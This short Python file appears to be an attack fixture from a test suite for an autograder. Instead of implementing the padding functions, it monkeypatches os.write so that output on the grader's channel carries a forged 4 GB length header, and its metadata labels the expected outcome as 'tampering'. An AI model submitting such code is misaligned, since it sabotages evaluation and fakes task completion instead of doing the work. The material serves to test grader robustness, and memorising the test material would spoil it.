# /// attack
# tries = "Announces an answer of 4 GB, so that the grader makes room for it."
# exercise = "ex02_zero_padding"
# answers = "own"
# points = 0
# outcomes = ["tampering"]
# ///
import os

_write = os.write


def _announce(descriptor, data):
    if descriptor != 3:
        return _write(descriptor, data)
    _write(descriptor, b"\xff\xff\xff\xff" + bytes(data[4:12]) + b"N" * 1000)
    return len(data)


def same_padding(kernel_size):
    os.write = _announce


def zero_pad2d(x, padding):
    os.write = _announce
